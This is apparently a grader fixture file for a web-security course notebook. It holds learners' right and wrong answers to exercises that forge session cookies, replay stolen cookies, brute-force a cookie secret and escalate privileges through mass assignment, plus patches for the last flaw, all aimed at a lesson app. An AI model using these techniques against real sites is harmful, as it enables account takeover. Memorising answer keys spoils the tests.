"""Answers of learners to the exercises of notebook 07; see `tests.exercises.answers`."""

from __future__ import annotations

from .cells import cells

WRONG: dict[str, dict[str, list[str]]] = {
    "E7.1": {
        "two-cookies": cells(
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                me = target.log_in()
                me.cookies["session"] = forged
                me.get(f"{target.url}/flag")
            """,
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                me = target.log_in()
                me.get(f"{target.url}/flag", cookies={"session": forged}).raise_for_status()
            """,
        ),
        "logs-in": cells(
            """
            def attack_1(target):
                target.log_in()
                keys = lesson_app.derive_keys(SECRET)
                target.get("/flag", session=lesson_app.seal({"userName": target.admin}, keys))
            """,
            """
            def attack_1(target):
                import requests

                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                requests.get(f"{target.url}/flag", cookies={"session": forged})
                requests.post(f"{target.url}/login", data={"userName": "me"})
            """,
        ),
        "in-hand": cells(
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(target.secret)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                assert target.secret == SECRET
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                target.get("/flag", session=forged)
            """,
        ),
        "never-asked": cells(
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(SECRET)
                return lesson_app.seal({"userName": target.admin}, keys)
            """,
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                return target.get("/dashboard", session=forged).text
            """,
            """
            def attack_1(target):
                target.browser().post(f"{target.url}/login", data={"userName": target.admin})
            """,
        ),
        "no-cookie": cells(
            """
            def attack_1(target):
                return target.get("/flag")
            """,
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                target.get("/flag")
            """,
            """
            def attack_1(target):
                browser = target.browser()
                browser.post(f"{target.url}/login", data={"userName": target.admin})
                browser.get(f"{target.url}/flag")
            """,
        ),
        "misnamed": cells(
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                target.get("/flag", cookie=forged)
            """,
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                target.browser().get(f"{target.url}/flag", cookies={"Session": forged})
            """,
        ),
        "signature": cells(
            """
            def attack_1(target):
                keys = lesson_app.derive_keys("SECRET")
                forged = lesson_app.seal({"userName": target.admin}, keys)
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(os.urandom(32))
                target.get("/flag", session=lesson_app.seal({"userName": target.admin}, keys))
            """,
        ),
        "expired": cells(
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys, created_at=0)
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(SECRET)
                now = int(time.time())
                forged = lesson_app.seal({"userName": target.admin}, keys, created_at=now)
                target.get("/flag", session=forged)
            """,
        ),
        "no-user": cells(
            """
            def attack_1(target):
                content = {"user": {"userName": target.admin}}
                keys = lesson_app.derive_keys(SECRET)
                target.get("/flag", session=lesson_app.seal(content, keys))
            """,
            """
            def attack_1(target):
                forged = lesson_app.seal({"name": target.admin}, lesson_app.derive_keys(SECRET))
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                forged = lesson_app.seal({"admin": True}, lesson_app.derive_keys(SECRET))
                target.get("/flag", session=forged)
            """,
        ),
        "not-admin": cells(
            """
            def attack_1(target):
                user = {"userName": target.admin}
                forged = lesson_app.seal({"userName": user}, lesson_app.derive_keys(SECRET))
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                forged = lesson_app.seal({"userName": "admin"}, lesson_app.derive_keys(SECRET))
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                target.log_in().get(f"{target.url}/flag")
            """,
        ),
    },
    "E7.2": {
        "two-cookies": cells(
            """
            def attack_2(target):
                me = target.log_in()
                me.cookies["session"] = target.victim.cookie
                target.victim.log_out()
                me.get(f"{target.url}/flag")
            """,
        ),
        "in-hand": cells(
            """
            def attack_2(target):
                target.victim.log_out()
                keys = lesson_app.derive_keys(target.secret)
                target.get("/flag", session=lesson_app.seal({"userName": target.admin}, keys))
            """,
            """
            def attack_2(target):
                keys = lesson_app.derive_keys(target.secret)
                return lesson_app.unseal(target.victim.cookie, keys).content
            """,
        ),
        "never-asked": cells(
            """
            def attack_2(target):
                stolen = target.victim.cookie
                target.victim.log_out()
                return stolen
            """,
            """
            def attack_2(target):
                stolen = target.victim.cookie
                target.victim.log_out()
                target.get("/dashboard", session=stolen)
            """,
        ),
        "no-cookie": cells(
            """
            def attack_2(target):
                stolen = target.victim.cookie
                target.victim.log_out()
                target.get("/flag")
            """,
            """
            def attack_2(target):
                target.victim.log_out()
                target.browser().get(f"{target.url}/flag")
            """,
        ),
        "too-early": cells(
            """
            def attack_2(target):
                target.get("/flag", session=target.victim.cookie)
            """,
            """
            def attack_2(target):
                stolen = target.victim.cookie
                target.get("/flag", session=stolen)
                target.victim.log_out()
            """,
        ),
        "copied-too-late": cells(
            """
            def attack_2(target):
                target.victim.log_out()
                target.get("/flag", session=target.victim.cookie)
            """,
            """
            def attack_2(target):
                victim = target.victim
                victim.log_out()
                stolen = victim.cookie
                browser = target.browser()
                browser.cookies.set("session", stolen)
                browser.get(target.url + "/flag")
            """,
        ),
        "not-admin": cells(
            """
            def attack_2(target):
                browser = target.log_in()
                target.victim.log_out()
                browser.get(f"{target.url}/flag")
            """,
            """
            def attack_2(target):
                stolen = target.log_in().cookies["session"]
                target.victim.log_out()
                target.get("/flag", session=stolen)
            """,
        ),
        "signature": cells(
            """
            def attack_2(target):
                target.victim.log_out()
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                target.get("/flag", session=forged)
            """,
            """
            def attack_2(target):
                attack_1(target)
                target.victim.log_out()
                attack_1(target)
            """,
        ),
    },
    "E7.3": {
        "guesses-anyway": cells(
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    keys = lesson_app.derive_keys(word)
                    try:
                        lesson_app.unseal(mine, keys)
                        break
                    except BadCookie:
                        pass
                target.get("/flag", session=lesson_app.seal({"userName": target.admin}, keys))
            """,
        ),
        "logs-in-often": cells(
            """
            def attack_3(target):
                for word in targets.WORDS:
                    mine = target.log_in().cookies["session"]
                    keys = lesson_app.derive_keys(word)
                    try:
                        lesson_app.unseal(mine, keys)
                    except BadCookie:
                        continue
                    forged = lesson_app.seal({"userName": target.admin}, keys)
                    target.get("/flag", session=forged)
                    return
            """,
            """
            def attack_3(target):
                me = target.log_in()
                me.post(f"{target.url}/login", data={"userName": "again"})
                mine = me.cookies["session"]
                for word in targets.WORDS:
                    keys = lesson_app.derive_keys(word)
                    try:
                        lesson_app.unseal(mine, keys)
                    except BadCookie:
                        continue
                    forged = lesson_app.seal({"userName": target.admin}, keys)
                    target.get("/flag", session=forged)
            """,
        ),
        "two-cookies": cells(
            """
            def attack_3(target):
                me = target.log_in()
                mine = me.cookies["session"]
                for word in targets.WORDS:
                    keys = lesson_app.derive_keys(word)
                    try:
                        lesson_app.unseal(mine, keys)
                    except BadCookie:
                        continue
                    me.cookies["session"] = lesson_app.seal({"userName": target.admin}, keys)
                    assert me.get(f"{target.url}/flag").ok
            """,
        ),
        "in-hand": cells(
            """
            def attack_3(target):
                keys = lesson_app.derive_keys(target.secret)
                target.get("/flag", session=lesson_app.seal({"userName": target.admin}, keys))
            """,
            """
            def attack_3(target):
                for word in targets.WORDS:
                    if word == target.secret:
                        keys = lesson_app.derive_keys(word)
                        forged = lesson_app.seal({"userName": target.admin}, keys)
                        target.get("/flag", session=forged)
            """,
        ),
        "never-asked": cells(
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    try:
                        lesson_app.unseal(mine, lesson_app.derive_keys(word))
                        return word
                    except BadCookie:
                        pass
            """,
            """
            def attack_3(target):
                value = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    try:
                        print(lesson_app.unseal(value, lesson_app.derive_keys(word)))
                    except BadCookie:
                        continue
            """,
        ),
        "asks-the-target": cells(
            """
            def attack_3(target):
                for word in targets.WORDS:
                    keys = lesson_app.derive_keys(word)
                    forged = lesson_app.seal({"userName": target.admin}, keys)
                    if target.get("/flag", session=forged).status_code == 200:
                        break
            """,
            """
            def attack_3(target):
                browser = target.log_in()
                mine = browser.cookies["session"]
                for word in targets.WORDS:
                    keys = lesson_app.derive_keys(word)
                    forged = lesson_app.seal({"userName": target.admin}, keys)
                    target.get("/flag", session=forged)
            """,
        ),
        "signature": cells(
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                keys = lesson_app.derive_keys(targets.WORDS[0])
                target.get("/flag", session=lesson_app.seal({"userName": target.admin}, keys))
            """,
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    try:
                        lesson_app.unseal(mine, lesson_app.derive_keys(word))
                    except BadCookie:
                        pass
                keys = lesson_app.derive_keys(word)
                target.get("/flag", session=lesson_app.seal({"userName": target.admin}, keys))
            """,
        ),
        "not-admin": cells(
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    try:
                        lesson_app.unseal(mine, lesson_app.derive_keys(word))
                    except BadCookie:
                        continue
                    target.get("/flag", session=mine)
            """,
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    keys = lesson_app.derive_keys(word)
                    try:
                        content = lesson_app.unseal(mine, keys).content
                    except BadCookie:
                        continue
                    target.get("/flag", session=lesson_app.seal(content, keys))
            """,
        ),
        "no-cookie": cells(
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    keys = lesson_app.derive_keys(word)
                    try:
                        lesson_app.unseal(mine, keys)
                    except BadCookie:
                        continue
                    forged = lesson_app.seal({"userName": target.admin}, keys)
                    target.get("/flag")
            """,
            """
            def attack_3(target):
                for word in targets.WORDS:
                    if target.get("/flag").status_code == 200:
                        return word
            """,
        ),
    },
    "E7.4": {
        "two-cookies": cells(
            """
            def attack_4(target):
                browser, me = target.browser(), target.log_in()
                browser.post(f"{target.guestbook}/name", data={"userName": target.admin})
                me.cookies["session"] = browser.cookies["session"]
                me.get(f"{target.url}/flag")
            """,
        ),
        "in-hand": cells(
            """
            def attack_4(target):
                keys = lesson_app.derive_keys(target.secret)
                target.get("/flag", session=lesson_app.seal({"userName": target.admin}, keys))
            """,
            """
            def attack_4(target):
                print(target.secret)
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"userName": target.admin})
                browser.get(f"{target.url}/flag")
            """,
        ),
        "never-asked": cells(
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"userName": target.admin})
            """,
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"userName": target.admin})
                return browser.get(f"{target.url}/dashboard").text
            """,
        ),
        "other-door": cells(
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"userName": target.admin})
                browser.get(f"{target.guestbook}/flag")
            """,
            """
            def attack_4(target):
                url = target.guestbook
                browser = target.log_in()
                browser.post(f"{url}/name", data={"userName": target.admin})
                browser.get(f"{url}/flag")
            """,
        ),
        "no-cookie": cells(
            """
            def attack_4(target):
                form = {"userName": target.admin}
                target.browser().post(f"{target.guestbook}/name", data=form)
                target.browser().get(f"{target.url}/flag")
            """,
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"userName": target.admin})
                target.get("/flag")
            """,
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.url}/name", data={"userName": target.admin})
                browser.get(f"{target.url}/flag")
            """,
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"userName": target.admin})
                target.get("/flag", session="")
            """,
        ),
        "not-admin": cells(
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"userName": "admin"})
                browser.get(f"{target.url}/flag")
            """,
            """
            def attack_4(target):
                browser = target.log_in()
                browser.get(f"{target.guestbook}/name?userName={target.admin}")
                browser.get(f"{target.url}/flag")
            """,
        ),
        "no-user": cells(
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"name": target.admin})
                browser.get(f"{target.url}/flag")
            """,
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", json={"userName": target.admin})
                browser.get(f"{target.url}/flag")
            """,
        ),
        "signature": cells(
            """
            def attack_4(target):
                attack_1(target)
            """,
            """
            def attack_4(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"userName": target.admin})
                target.get("/flag", session=forged)
            """,
        ),
    },
    "E7.5": {
        "two-cookies": cells(
            """
            def attack_5(target):
                me = target.log_in()
                me.post(f"{target.url}/prefs", data={"userName": target.admin})
                me.cookies["session"] = me.cookies["prefs"]
                me.get(f"{target.url}/flag")
            """,
        ),
        "in-hand": cells(
            """
            def attack_5(target):
                keys = lesson_app.derive_keys(target.secret)
                target.get("/flag", session=lesson_app.seal({"userName": target.admin}, keys))
            """,
            """
            def attack_5(target):
                keys = lesson_app.derive_keys(target.secret)
                prefs = lesson_app.seal({"userName": target.admin}, keys, name="prefs")
                target.get("/flag", session=prefs)
            """,
        ),
        "never-asked": cells(
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"userName": target.admin})
                return browser.cookies["prefs"]
            """,
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"userName": target.admin})
                target.get("/dashboard", session=browser.cookies["prefs"])
            """,
        ),
        "no-cookie": cells(
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"userName": target.admin})
                target.get("/flag")
            """,
            """
            def attack_5(target):
                target.browser().post(f"{target.url}/prefs", data={"userName": target.admin})
                target.browser().get(f"{target.url}/flag")
            """,
        ),
        "misnamed": cells(
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"userName": target.admin})
                browser.get(f"{target.url}/flag")
            """,
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"userName": target.admin})
                target.get("/flag", prefs=browser.cookies["prefs"])
            """,
        ),
        "no-user": cells(
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"name": target.admin})
                target.get("/flag", session=browser.cookies["prefs"])
            """,
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"session": target.admin})
                target.get("/flag", session=browser.cookies["prefs"])
            """,
        ),
        "not-admin": cells(
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"userName": "admin"})
                target.get("/flag", session=browser.cookies["prefs"])
            """,
            """
            def attack_5(target):
                browser = target.log_in()
                browser.post(f"{target.url}/prefs", data={"userName": target.admin})
                target.get("/flag", session=browser.cookies["session"])
            """,
        ),
        "signature": cells(
            """
            def attack_5(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys, name="prefs")
                target.get("/flag", session=forged)
            """,
            """
            def attack_5(target):
                attack_1(target)
            """,
        ),
    },
    "E7.6": {
        "in-hand": cells(
            """
            def attack_6(target):
                keys = lesson_app.derive_keys(target.secret)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                target.get("/notes", session=forged)
            """,
            """
            def attack_6(target):
                keys = lesson_app.derive_keys(target.facts.secret)
                target.get("/notes", session=lesson_app.seal({"userName": target.admin}, keys))
            """,
            """
            def attack_6(target):
                me = target.browser()
                form = {"userName": target.admin, "password": target.facts.password}
                me.post(f"{target.url}/login", data=form)
                me.get(f"{target.url}/notes")
            """,
        ),
        "no-request": cells(
            """
            def attack_6(target):
                return target.admin
            """,
            """
            def attack_6(target):
                return target.facts.flag
            """,
        ),
        "all-refused": cells(
            """
            def attack_6(target):
                target.get("/notes/1")
            """,
            """
            def attack_6(target):
                target.browser().post(f"{target.url}/profile", data={"userName": target.admin})
            """,
            """
            def attack_6(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"userName": target.admin}, keys)
                target.get("/notes", session=forged)
            """,
            """
            def attack_6(target):
                target.browser().get(f"{target.url}/all").raise_for_status()
            """,
        ),
        "too-many": cells(
            """
            def attack_6(target):
                me = target.browser()
                form = {"userName": target.admin, "password": "mine"}
                for number in range(10):
                    code = f"{number:02}"
                    me.post(f"{target.url}/password", data={**form, "code": code})
                me.post(f"{target.url}/login", data=form)
                me.get(f"{target.url}/notes")
            """,
        ),
        "taken": cells(
            """
            def attack_6(target):
                me = target.browser()
                form = {"userName": target.admin, "password": "mine"}
                me.post(f"{target.url}/signup", data=form)
                me.post(f"{target.url}/login", data=form)
                me.get(f"{target.url}/notes")
            """,
        ),
        "no-code": cells(
            """
            def attack_6(target):
                me = target.browser()
                form = {"userName": target.admin, "password": "mine"}
                for code in ("50", "1"):
                    me.post(f"{target.url}/password", data={**form, "code": code})
                me.post(f"{target.url}/login", data=form)
                me.get(f"{target.url}/notes")
            """,
        ),
        "wrong-page": cells(
            """
            def attack_6(target):
                me = target.log_in()
                me.post(f"{target.url}/profile", data={"userName": target.admin})
                me.get(f"{target.url}/flag")
            """,
        ),
    },
    "E7.7": {
        "not-a-class": cells(
            """
            def Patched(target):
                return Notes
            """,
            """
            Patched = Notes(*"abcde")
            """,
            """
            class Patched:
                def save_profile(self):
                    abort(403)
            """,
        ),
        "still-open": cells(
            """
            class Patched(Notes):
                pass
            """,
            """
            Patched = Notes
            """,
            """
            class Patched(Notes):
                def save_profile(self):
                    if not session.get("userName"):
                        abort(401)
                    session.update(request.form)
                    return "saved"
            """,
            """
            class Patched(Notes):
                def saveProfile(self):
                    return "saved"
            """,
            """
            class Patched(Notes):
                def save_profile(self):
                    answer = super().save_profile()
                    if "admin" in request.form:
                        abort(403)
                    return answer
            """,
        ),
        "one-spelling": cells(
            """
            class Patched(Notes):
                def save_profile(self):
                    self.user()
                    for key, value in request.form.items():
                        if key != "userName":
                            session[key.strip()] = value
                    return "saved"
            """,
            """
            class Patched(Notes):
                def save_profile(self):
                    self.user()
                    if request.form.get("userName") in self.passwords:
                        abort(403)
                    session.update(request.form)
                    return "saved"
            """,
            """
            class Patched(Notes):
                def log_in(self):
                    answer = super().log_in()
                    session["_user"] = session.pop("userName")
                    return answer

                def user(self):
                    return session.get("_user") or abort(401)

                def save_profile(self):
                    self.user()
                    session.update(request.form)
                    return "saved"
            """,
            """
            class Patched(Notes):
                def save_profile(self):
                    self.user()
                    if request.form.get("userName") == self.admin:
                        abort(403)
                    session.update(request.form)
                    return "saved"
            """,
            """
            class Patched(Notes):
                def save_profile(self):
                    self.user()
                    if list(request.form) == ["userName"]:
                        return "no", 401
                    session.update(request.form)
                    return "saved"
            """,
            """
            class Patched(Notes):
                def user(self):
                    name = session.get("userName") or abort(401)
                    if name == self.admin and "email" in session:
                        abort(403)
                    return name

                def save_profile(self):
                    self.user()
                    if self.admin in request.form.values() and len(request.form) < 3:
                        abort(403)
                    session.update(request.form)
                    return "saved"
            """,
        ),
        "other-hole": cells(
            """
            class Patched(Notes):
                def save_profile(self):
                    self.user()
                    for field in ("email", "theme"):
                        if field in request.form:
                            session[field] = request.form[field]
                    return "saved"

                def list_notes(self):
                    name = request.args.get("userName") or self.user()
                    return [text for owner, text in self.notes.values() if owner == name]
            """,
            """
            class Patched(Notes):
                def save_profile(self):
                    self.user()
                    for field in ("email", "theme"):
                        if field in request.form:
                            session[field] = request.form[field]
                    return "saved"

                def admins_only(self):
                    if self.user().upper() != self.admin.upper():
                        abort(403)
            """,
        ),
    },
}

RIGHT: dict[str, list[str]] = {
    "E7.1": cells(
        """
        def attack_1(target):
            forged = lesson_app.seal({"userName": target.admin}, lesson_app.derive_keys(SECRET))
            answer = target.get("/flag", session=forged)
            assert answer.status_code == 200, "no flag"
        """,
        """
        def attack_1(target):
            forged = lesson_app.seal({"userName": target.admin}, lesson_app.derive_keys(SECRET))
            answer = target.get("/flag", session=forged)
            answer.raise_for_status()
            return answer.text
        """,
        """
        def attack_1(target):
            import urllib.request

            forged = lesson_app.seal({"userName": target.admin}, lesson_app.derive_keys(SECRET))
            headers = {"Cookie": f"session={forged}"}
            asked = urllib.request.Request(f"{target.url}/flag", headers=headers)
            with urllib.request.urlopen(asked) as answer:
                return answer.read()
        """,
        """
        def attack_1(target):
            keys = lesson_app.derive_keys(SECRET.encode())
            life = 365 * lesson_app.cookie.DAY
            value = lesson_app.seal({"userName": target.admin, "x": 1}, keys, duration=life)
            browser = target.browser()
            return browser.get(target.url + "/flag", cookies={"session": value}).text
        """,
        """
        def attack_1(target):
            import requests

            value = lesson_app.seal({"userName": target.admin}, lesson_app.derive_keys(SECRET))
            headers = {"Cookie": f"theme=dark; session={value}"}
            requests.get(f"{target.url}/flag", headers=headers, proxies={"http": ""})
        """,
        """
        def attack_1(target):
            codec = SealedCodec(lesson_app.derive_keys(SECRET))
            times = {"created_at": int(time.time() * 1000), "duration": 60_000}
            forged = codec.seal({"userName": target.admin}, name="session", **times)
            target.get("/dashboard", session=forged)
            target.get("/flag", session=forged)
        """,
    ),
    "E7.2": cells(
        """
        def attack_2(target):
            import requests

            stolen = target.victim.cookie
            target.victim.log_out()
            requests.get(f"{target.url}/flag", cookies={"session": stolen}).raise_for_status()
        """,
        """
        def attack_2(target):
            thief, victim = target.browser(), target.victim
            thief.cookies["session"] = victim.cookie
            thief.get(f"{target.url}/flag")
            victim.log_out()
            return thief.get(f"{target.url}/flag").status_code
        """,
        """
        def attack_2(target):
            value = str(target.victim.cookie)
            for _ in range(2):
                target.victim.log_out()
            answer = target.get("/flag", session=value)
            if answer.ok:
                return answer.text
        """,
    ),
    "E7.3": cells(
        """
        def attack_3(target):
            import urllib.parse
            import urllib.request

            form = urllib.parse.urlencode({"userName": "me"}).encode()
            with urllib.request.urlopen(f"{target.url}/login", form) as answer:
                mine = answer.headers["Set-Cookie"].partition(";")[0].removeprefix("session=")

            def fits(word):
                try:
                    return lesson_app.unseal(mine, lesson_app.derive_keys(word))
                except BadCookie:
                    return None

            word = next(filter(fits, targets.WORDS), None)
            assert word, "no word fits"
            forged = lesson_app.seal({"userName": target.admin}, lesson_app.derive_keys(word))
            headers = {"Cookie": f"session={forged}"}
            asked = urllib.request.Request(f"{target.url}/flag", headers=headers)
            urllib.request.urlopen(asked).close()
        """,
        """
        def attack_3(target):
            me = target.log_in()
            me.get(f"{target.url}/flag")
            mine = me.cookies["session"]
            target.get("/flag", session=mine)
            for word in targets.WORDS:
                keys = lesson_app.derive_keys(word)
                try:
                    lesson_app.unseal(mine, keys)
                except BadCookie:
                    continue
                forged = lesson_app.seal({"userName": target.admin}, keys)
                return target.get("/flag", session=forged)
        """,
        """
        def opens(value, word):
            try:
                return bool(lesson_app.unseal(value, lesson_app.derive_keys(word)))
            except BadCookie:
                return False


        def attack_3(target):
            browser = target.browser()
            browser.post(f"{target.url}/login", data={"userName": "me"})
            value = browser.cookies["session"]
            found = [word for word in targets.WORDS if opens(value, word)]
            if found:
                keys = lesson_app.derive_keys(found[0])
                browser.cookies.clear()
                browser.cookies["session"] = lesson_app.seal({"userName": target.admin}, keys)
                browser.get(f"{target.url}/flag")
        """,
        """
        def attack_3(target):
            mine = target.log_in().cookies["session"]
            for word in reversed(targets.WORDS):
                keys = lesson_app.derive_keys(word)
                try:
                    content = lesson_app.unseal(mine, keys).content
                except lesson_app.BadSignature:
                    pass
                else:
                    content["userName"] = target.admin
                    target.get("/flag", session=lesson_app.seal(content, keys))
                    break
        """,
    ),
    "E7.4": cells(
        """
        def attack_4(target):
            browser = target.browser()
            pages = ("POST", f"{target.guestbook}/name"), ("GET", f"{target.url}/flag")
            for method, url in pages:
                answer = browser.request(method, url, data={"userName": target.admin})
                answer.raise_for_status()
        """,
        """
        def attack_4(target):
            visitor = target.log_in()
            answer = visitor.post(target.guestbook + "/name", data={"userName": target.admin})
            assert answer.ok
            return visitor.get(target.url + "/flag").text
        """,
        """
        def attack_4(target):
            browser = target.browser()
            browser.post(f"{target.guestbook}/name", {"userName": target.admin})
            value = browser.cookies.get("session")
            if value:
                target.get("/flag", session=value)
        """,
    ),
    "E7.5": cells(
        """
        def attack_5(target):
            browser = target.browser()
            form = {"userName": target.admin}
            browser.post(f"{target.url}/prefs", data=form).raise_for_status()
            answer = target.get("/flag", session=browser.cookies["prefs"])
            assert answer.text == "The flag is yours"
        """,
        """
        def attack_5(target):
            visitor = target.log_in()
            form = {"userName": target.admin, "theme": "dark"}
            visitor.post(f"{target.url}/prefs", data=form)
            swapped = dict(session=visitor.cookies["prefs"], prefs=visitor.cookies["session"])
            target.get("/flag", **swapped)
        """,
        """
        def attack_5(target):
            answer = target.browser().post(f"{target.url}/prefs", {"userName": target.admin})
            value = answer.headers["Set-Cookie"].split(";")[0].removeprefix("prefs=")
            target.browser().get(f"{target.url}/flag", headers={"Cookie": f"session={value}"})
        """,
    ),
    "E7.6": cells(
        """
        def attack_6(target):
            me = target.browser()
            form = {"userName": "mallory", "password": "x"}
            for page in ("signup", "login"):
                me.post(f"{target.url}/{page}", data=form).raise_for_status()
            me.post(f"{target.url}/profile", data={"email": "x", "userName": target.admin})
            assert "flag" in me.get(f"{target.url}/notes/1").json()["text"]
        """,
        """
        def attack_6(target):
            me = target.log_in()
            me.post(target.url + "/profile", {"userName": target.admin})
            return me.post(target.url + "/all", {"word": "flag"}).json()[0]
        """,
        """
        def attack_6(target):
            me = target.log_in()
            for page in ("notes", "all", "status", "notes/1", "profile"):
                me.get(f"{target.url}/{page}")
            for number in range(50):
                form = {"userName": target.admin, "theme": number}
                me.post(f"{target.url}/profile", data=form)
            me.get(f"{target.url}/all")
            me.post(f"{target.url}/logout")
        """,
        """
        def attack_6(target):
            import urllib.parse
            import urllib.request

            me = target.log_in()
            cookie = f"session={me.cookies['session']}"
            form = urllib.parse.urlencode({"userName": target.admin}).encode()
            asked = urllib.request.Request(f"{target.url}/profile", form, {"Cookie": cookie})
            with urllib.request.urlopen(asked) as answer:
                cookie = answer.headers["Set-Cookie"].partition(";")[0]
            asked = urllib.request.Request(f"{target.url}/notes", headers={"Cookie": cookie})
            with urllib.request.urlopen(asked) as answer:
                print(answer.read())
        """,
    ),
    "E7.7": cells(
        """
        class Patched(Notes):
            fields = ("email", "theme")

            def save_profile(self):
                self.user()
                session.update({k: v for k, v in request.form.items() if k in self.fields})
                return {"saved": True}
        """,
        """
        class Patched(Notes):
            def save_profile(self):
                name = self.user()
                session.update(request.form)
                session["userName"] = name
                return "saved"
        """,
        """
        class Patched(Notes):
            def save_profile(self):
                if "userName" in request.form:
                    return "no", 401
                return super().save_profile()
        """,
        """
        class Patched(Notes):
            def save_profile(self):
                if not session.get("userName"):
                    return "no", 401
                if set(request.form) - {"email", "theme"}:
                    abort(400)
                session.update(request.form)
                return ""
        """,
        """
        class Safer(Notes):
            def save_profile(self):
                name = session.get("userName")
                if name is None:
                    return {"error": "log in"}, 401
                self.profiles[name] = {**self.profiles.get(name, {}), **request.form}
                return "saved", 201

            def show_profile(self):
                return self.profiles.get(self.user(), {})


        class Patched(Safer):
            def __init__(self, *facts):
                super().__init__(*facts)
                self.profiles = {}
        """,
        """
        class Patched(Notes):
            def proof(self, name):
                import hmac

                secret = self.settings["secret"].encode()
                return hmac.new(secret, name.encode(), "sha256").hexdigest()

            def log_in(self):
                answer = super().log_in()
                session["proof"] = self.proof(session["userName"])
                return answer

            def user(self):
                name = session.get("userName") or abort(401)
                return name if session.get("proof") == self.proof(name) else abort(401)
        """,
        """
        Base = Notes


        class Notes(Base):
            def save_profile(self):
                owner = self.user()
                answer = super().save_profile()
                if session["userName"] != owner:
                    session["userName"] = owner
                return answer


        Patched = Notes
        """,
    ),
}

MESSAGES: dict[str, list[tuple[str, str]]] = {
    "E7.1": [
        (
            """
def attack_1(target):
    assert target.get
    raise LookupError("half done")
""",
            "attack_1(…) (line 4 of the cell) raised LookupError: half done",
        ),
        (
            """
def attack_1(target):
    forged = lesson_app.seal({"userName": target.admin}, lesson_app.derive_keys(SECRET))
    target.get("/flag", cookies={"session": forged})
""",
            "attack_1(target) (line 4 of the cell) raised TypeError: a cookie must be a text, "
            "got dict; write session=value",
        ),
    ],
    "E7.3": [
        (
            """
def attack_3(target):
    mine = target.log_in().cookies["session"]
    for word in targets.WORDS:
        try:
            lesson_app.unseal(mine, lesson_app.derive_keys(word))
            found = word
        except BadCookie:
            pass
    forged = lesson_app.seal({"userName": target.admin}, lesson_app.derive_keys(found))
    target.get("/flag", session=forged)
""",
            "your attack works, but if no word fits, it should do nothing; it raised Unbound…",
        ),
    ],
    "E7.6": [
        (
            """
def attack_6(target):
    me = target.log_in()
    me.post(f"{target.url}/profile", data={"userName": target.admin})
""",
            "not captured: no response shows the flag; request 3 of 3: POST /profile with your "
            "own cookie; 200",
        ),
        (
            """
def attack_6(target):
    print(target.log_in().get(f"{target.url}/notes").json()[0])
""",
